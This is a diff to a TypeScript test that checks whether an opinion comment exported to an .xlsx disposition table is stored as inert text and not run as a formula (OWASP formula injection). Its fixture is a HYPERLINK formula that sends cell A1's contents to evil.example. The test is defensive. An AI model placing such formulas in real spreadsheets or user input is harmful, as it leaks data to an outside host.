@@ -1,7 +1,8 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ok } from '#test/support/client.js';
-import { planLedBy, publish, START } from '#test/support/drafts.js';
+import { planLedBy, publish } from '#test/support/drafts.js';
+import { DispositionTableUrlDocument, StartThreadDocument } from '#test/support/generated/graphql.js';
 import { buildProgramme, startTestServer, type TestServer } from '#test/support/server.js';
 
 let server: TestServer;
@@ -10,17 +11,15 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-const TABLE = 'query($id: ID!) { dispositionTable(draftId: $id, format: XLSX) { url } }';
-
 describe('the opinion table as .xlsx', () => {
   it('carries an opinion written like a formula as inert text (OWASP formula injection)', async () => {
     const p = await buildProgramme(server);
     const draft = await publish(server, await p.as('working'), await planLedBy(server, p, '规财处'));
     const body = '=HYPERLINK("http://evil.example/?q="&A1,"查看依据")';
-    await ok(server.url, START, { draftId: draft.id, anchor: null, body }, await p.as('kexin'));
+    await ok(server.url, StartThreadDocument, { draftId: draft.id, anchor: null, body }, await p.as('kexin'));
 
     const guicai = await p.as('guicai');
-    const link = (await ok(server.url, TABLE, { id: draft.id }, guicai)).dispositionTable;
+    const link = (await ok(server.url, DispositionTableUrlDocument, { id: draft.id }, guicai)).dispositionTable;
     const res = await fetch(`${server.url}${link.url}`, { headers: { authorization: `Bearer ${guicai}` } });
     expect(res.status).toBe(200);
     const book = new ExcelJS.Workbook();
